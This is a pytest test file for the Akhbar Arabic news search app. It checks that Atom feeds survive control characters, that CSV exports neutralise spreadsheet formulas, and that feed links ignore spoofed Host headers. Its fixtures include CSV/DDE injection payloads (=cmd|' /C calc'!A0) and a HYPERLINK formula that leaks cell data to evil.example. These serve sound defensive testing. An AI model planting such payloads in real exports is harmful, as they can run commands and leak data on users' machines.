"""What Akhbar writes for other programs, under hostile input (issue #35, points 4-6): the Atom feed
stays XML whatever control characters the articles or the URL hold; CSV exports (the web's and the
command line's) never hand a spreadsheet a formula; the feed's links never take the request's Host."""
from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from xml.etree import ElementTree as ET

import feedparser
import pytest

from index.builder import build_index
from search.errors import ConfigError
from tests.conftest import ROOT
from tests.test_export import _csv_rows
from tests.test_feeds import A, check_atom
from web import create_app
from web.feeds import CONTENT_TYPE, atom_feed

#: Characters XML 1.0 forbids or discourages, as found in scraped text (NUL comes from JSON's \u0000).
CONTROLS = "\x00\x01\x07\x0b\x0c\x1b\x7f\x85\x9f\ufdd0\ufffe\uffff"


def _build(tmp_path, rows, metadata: list[list[str]] | None = None):
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "a.jsonl").write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), "utf-8")
    if metadata:
        with open(folder / "metadata.csv", "w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows(metadata)
    summary = build_index([folder], tmp_path / "ix", progress=False)
    assert summary.documents == len(rows) and not summary.skipped
    return tmp_path / "ix"


@pytest.fixture()
def make_client():
    """``make_client(index, **settings)``: a test client of the real app; its engine closed after the test."""
    apps = []

    def make(index, **config):
        apps.append(create_app({"TESTING": True, "INDEX_DIR": str(index), **config}))
        return apps[-1].test_client()

    yield make
    for app in apps:
        if "akhbar_engine" in app.extensions:
            app.extensions["akhbar_engine"].close()


# -- 4. The feed is XML whatever the text ---------------------------------------------------------

CONTROL_ROWS = [
    {"id": "c1", "title": f"الوفد\x01 المصري\x0cفي طرابلس{CONTROLS}", "date": "2021-01-05",
     "text": f"وصل الوفد المصري{CONTROLS} إلى طرابلس\x00 للقاء حكومة الوفاق.",
     "source": f"CNN{CONTROLS}", "category": f"سياسة{CONTROLS}", "url": f"https://news.example/a{CONTROLS}"},
    {"id": "c2", "title": "\x1b[31mالوفد\x07", "date": "2021-01-06", "text": "استقبل خليفة حفتر\x0b الوفد\x1b في بنغازي.",
     "source": "\x00"},
]


@pytest.fixture(scope="module")
def control_index(tmp_path_factory):
    return _build(tmp_path_factory.mktemp("controls"), CONTROL_ROWS)


def test_control_characters_in_every_field_of_an_article_leave_the_feed_xml(control_index, make_client):
    """Title, text (the snippet) and source are written into the feed; category and url are not
    (the entry links the article's page; its categories are the names found in it), and the
    file still parses with them in the index."""
    client = make_client(control_index)
    stored = client.get("/search?q=الوفد&format=json&group=off").get_json()["results"]
    assert {r["id"] for r in stored} == {"c1", "c2"}  # the characters are in the index, as they came
    first = next(r for r in stored if r["id"] == "c1")
    assert "\x01" in first["title"] and "\x00" in first["snippet_html"] and "\x07" in first["source"]
    r = client.get("/search.atom?q=الوفد")
    assert r.status_code == 200
    root = check_atom(r.data)  # ElementTree parses it; feedparser reads it strictly (not bozo)
    entries = {e.find(f"{A}id").text: e for e in root.findall(f"{A}entry")}
    c1 = entries["tag:akhbar,2026:article/c1"]
    # removed, but the controls that separate words (form feed, vertical tab, NEL ...) become a space
    assert c1.find(f"{A}title").text == "الوفد المصري في طرابلس   "  # \x0b \x0c \x85 of CONTROLS
    assert c1.find(f"{A}author/{A}name").text.strip() == "CNN"
    summary = c1.find(f"{A}summary").text
    assert "المصري" in summary and "طرابلس" in summary and not any(c in summary for c in CONTROLS if c not in "\x0b\x0c\x85")
    c2 = entries["tag:akhbar,2026:article/c2"]
    assert c2.find(f"{A}title").text == "[31mالوفد" and "حفتر  <mark class=\"hl t0\">الوفد</mark> في" in c2.find(f"{A}summary").text


@pytest.mark.parametrize("query", [
    "q=x&f=source:%01x",  # the URL
    "q=الوفد%00%07%1B&f=source:CNN%0B%0C%EF%BF%BE%EF%BF%BF",
    "q=%C2%85%C2%9F%EF%B7%90الوفد",  # NEL, a C1 control, a noncharacter
    "q=الوفد%ED%A0%80",  # an encoded surrogate (read as U+FFFD)
    "q=x&f=person:خليفة%01حفتر",
])
def test_control_characters_in_q_and_f_leave_the_feed_xml(control_index, make_client, query):
    r = make_client(control_index).get(f"/search.atom?{query}")
    assert r.status_code == 200, r.get_data(as_text=True)
    root = check_atom(r.data)
    title = root.find(f"{A}title").text
    assert title.startswith("أخبار: ") and not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in title)


def test_every_character_xml_forbids_or_discourages_is_kept_out_of_a_feed():
    """Every code point XML 1.0 does not allow (Char, section 2.2) or discourages (C1 controls,
    noncharacters), in every text and attribute that ``atom_feed`` writes: the document parses,
    feedparser reads it without complaint, and none of them is in it."""
    codes = [*range(0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000), *range(0xFDD0, 0xFDF0),
             *(plane + end for plane in range(0, 0x110000, 0x10000) for end in (0xFFFE, 0xFFFF))]
    bad = "".join(chr(c) for c in codes if chr(c) not in "\t\n\r")
    result = {"id": "a1", "title": "عنوان" + bad, "date": "2021-01-05", "source": bad + "المصدر",
              "persons": ["خليفة" + bad], "places": [bad], "organizations": [], "snippet_html": "نص" + bad}
    data = atom_feed([result], title="أخبار: " + bad, canonical_query="q=" + bad, self_url="/s?" + bad,
                     page_url="/p" + bad, article_link=lambda doc_id: "/article?id=" + doc_id, indexed_at="2026-01-01T00:00:00Z")
    root = ET.fromstring(data)
    written = [t for el in root.iter() for t in [el.text or "", *el.attrib.values()]]
    assert not set("".join(written)) & set(bad)
    assert root.find(f"{A}entry/{A}title").text == "عنوان" + " " * 7  # \x0b \x0c \x1c-\x1f \x85: spaces
    parsed = feedparser.parse(data, response_headers={"content-type": CONTENT_TYPE})
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert root.find(f"{A}entry/{A}author/{A}name").text == " " * 7 + "المصدر" and parsed.entries[0].author == "المصدر"


# -- 5. CSV cells are never formulas -------------------------------------------------------------

FORMULA_ROWS = [
    {"id": "=1+1", "title": "=cmd|' /C calc'!A0 الوفد المصري", "text": "وصل الوفد المصري إلى طرابلس.", "date": "2021-01-05",
     "source": "+SUM(1+1)*cmd|' /C calc'!A0", "url": '=HYPERLINK("http://evil.example/?leak="&A1,"اضغط")',
     "category": "-2+3+cmd|' /C calc'!A0"},
    {"id": "b2", "title": " @SUM(1+1)*cmd|' /C calc'!A0 الوفد", "text": "استقبل خليفة حفتر الوفد في بنغازي.", "date": "2021-01-06",
     "source": "\u200f=1+1", "url": "\t=1+1", "category": ' =HYPERLINK("http://evil.example")'},
    {"id": "c3", "title": "الوفد المصري في القاهرة", "text": "عاد الوفد المصري إلى القاهرة.", "date": "2021-01-07"},
    {"id": "d4", "title": "الوفد - تقرير", "text": "الوفد المصري في تونس.", "source": "الجزيرة", "date": "2021-01-01"},
]
#: The sidecar replaces c3's source, url and title (README, "Metadata beside the text").
SIDECAR = [["id", "source", "date", "url", "title"],
           ["c3", "@SUM(1+1)*cmd|' /C calc'!A0", "2021-01-08", "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","الوفد")']]
TEXT_COLUMNS = ("id", "title", "source", "url", "persons", "places", "organizations", "category", "story_id")
#: Characters a spreadsheet skips before it reads a cell's first character.
_SKIPPED = " \t\r\n\xa0\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\x00"


def _runs_as_formula(cell: str) -> bool:
    return cell.lstrip(_SKIPPED)[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")


@pytest.fixture(scope="module")
def formula_index(tmp_path_factory):
    return _build(tmp_path_factory.mktemp("formulas"), FORMULA_ROWS, SIDECAR)


def _check_neutralised(rows: list[dict], stored: list[dict]):
    """Each text cell that would run as a formula is the stored value behind one «'»; every other cell
    is the stored value unchanged; the score stays a number."""
    assert [row["id"] for row in rows] == [s["id"] if not _runs_as_formula(s["id"]) else "'" + s["id"] for s in stored]
    neutralised = 0
    for row, s in zip(rows, stored):
        for column in TEXT_COLUMNS:
            value = "; ".join(s[column]) if isinstance(s[column], list) else (s[column] or "")
            assert not _runs_as_formula(row[column]), (column, row[column])
            if _runs_as_formula(value):
                assert row[column] == "'" + value
                neutralised += 1
            else:
                assert row[column] == value
        assert row["score"] == str(s["score"]) and float(row["score"]) > 0
    return neutralised


def test_formulas_from_articles_and_the_sidecar_are_neutralised_in_the_web_csv(formula_index, make_client):
    client = make_client(formula_index)
    stored = [json.loads(line) for line in client.get("/search.jsonl?q=الوفد&group=off").get_data(as_text=True).splitlines()]
    by_id = {s["id"]: s for s in stored}
    # JSON Lines is data: the values as they came (the sidecar's for c3)
    assert by_id["=1+1"]["title"] == FORMULA_ROWS[0]["title"] and by_id["c3"]["url"] == SIDECAR[1][3]
    assert by_id["c3"]["title"] == SIDECAR[1][4] and by_id["b2"]["source"] == "\u200f=1+1"
    rows = _csv_rows(client.get("/search.csv?q=الوفد&group=off").data)
    # title, source, url, category (articles), source, url, title (sidecar), id, story id, leading space/RLM/tab
    assert _check_neutralised(rows, stored) >= 11
    got = {row["id"]: row for row in rows}
    assert got["'=1+1"]["title"] == "'=cmd|' /C calc'!A0 الوفد المصري"
    assert got["c3"]["title"] == "'" + SIDECAR[1][4] and got["c3"]["source"] == "'" + SIDECAR[1][1]
    assert got["b2"]["source"] == "'\u200f=1+1"
    assert got["d4"]["title"] == "الوفد - تقرير" and got["d4"]["source"] == "الجزيرة"  # ordinary text untouched


def test_formulas_are_neutralised_in_the_command_line_csv(formula_index, make_client):
    """``akhbar search --all --format csv``, run as a process, writes the same neutralised rows as /search.csv."""
    client = make_client(formula_index)
    stored = [json.loads(line) for line in client.get("/search.jsonl?q=الوفد").get_data(as_text=True).splitlines()]
    out = subprocess.run([sys.executable, "-m", "web.cli", "search", "الوفد", "--index", str(formula_index), "--all",
                          "--format", "csv"], capture_output=True, cwd=ROOT, check=True, timeout=120)
    rows = _csv_rows(out.stdout)
    assert _check_neutralised(rows, stored) >= 8
    assert rows == _csv_rows(client.get("/search.csv?q=الوفد").data)


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3+cmd", "'-2+3+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("  =1+1", "'  =1+1"), ("\u200f\u202b=1", "'\u200f\u202b=1"), ("\n-1", "'\n-1"), ("\tالوفد", "'\tالوفد"),
    ("\rالوفد", "'\rالوفد"), ("\x00الوفد", "'\x00الوفد"),
    ("الوفد", "الوفد"), ("الوفد = 1", "الوفد = 1"), ("2021-01-05", "2021-01-05"), ("", ""), ("'=1", "'=1"),
])
def test_spreadsheet_cell(text, cell):
    from web.export import spreadsheet_cell

    assert spreadsheet_cell(text) == cell


# -- 6. The feed's links never come from the Host header ------------------------------------------

SPOOFS = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "gopher",
          "Forwarded": "host=evil.example;proto=gopher", "X-Original-URL": "//evil.example/x"}


@pytest.mark.parametrize("public_url, fetched_from", [
    ("", "http://127.0.0.1:8000/search.atom"),
    ("https://akhbar.example.org/news/", "https://akhbar.example.org/news/search.atom"),
])
def test_a_spoofed_host_appears_nowhere_in_the_feed(control_index, make_client, public_url, fetched_from):
    client = make_client(control_index, PUBLIC_URL=public_url)
    for url in ("/search.atom?q=الوفد", "http://evil.example/search.atom?q=الوفد"):  # a Host header; an absolute-form target
        r = client.get(url, headers=SPOOFS)
        assert r.status_code == 200 and b"evil" not in r.data and b"gopher" not in r.data
        root = check_atom(r.data, fetched_from)  # the reader resolves each link where it fetched the feed
        hrefs = [link.get("href") for link in root.iter(f"{A}link")]
        assert len(hrefs) == 4
        if public_url:
            assert all(h.startswith("https://akhbar.example.org/news/") for h in hrefs), hrefs
        else:  # relative: a path on the host the reader fetched the feed from
            assert all(h.startswith("/") and not h.startswith("//") for h in hrefs), hrefs
    assert root.find(f"{A}link[@rel='self']").get("href").endswith("/search.atom?q=%D8%A7%D9%84%D9%88%D9%81%D8%AF&sort=date")


def test_public_url_is_read_from_the_environment_and_checked(control_index, make_client, monkeypatch):
    monkeypatch.setenv("AKHBAR_PUBLIC_URL", "http://10.0.0.5:8000")
    data = make_client(control_index).get("/search.atom?q=الوفد", headers={"Host": "evil.example"}).data
    entry_link = check_atom(data, "http://10.0.0.5:8000/search.atom").find(f"{A}entry/{A}link").get("href")
    assert entry_link.startswith("http://10.0.0.5:8000/article?id=")
    for bad in ("akhbar.example.org", "javascript:alert(1)", "https://", "https://a.example/?q=1", "https://u:p@a.example",
                "https://a.example/\x01"):
        with pytest.raises(ConfigError, match="PUBLIC_URL must be an http"):
            create_app({"TESTING": True, "PUBLIC_URL": bad})


def test_serve_refuses_a_bad_public_url_with_a_clear_message(tmp_path):
    env = {**os.environ, "AKHBAR_PUBLIC_URL": "evil.example"}
    out = subprocess.run([sys.executable, "-m", "web.cli", "serve", "--index", str(tmp_path), "--port", "0"],
                         capture_output=True, text=True, cwd=ROOT, env=env, timeout=60)
    assert out.returncode == 1 and "error: PUBLIC_URL must be an http(s) address" in out.stderr, out.stderr
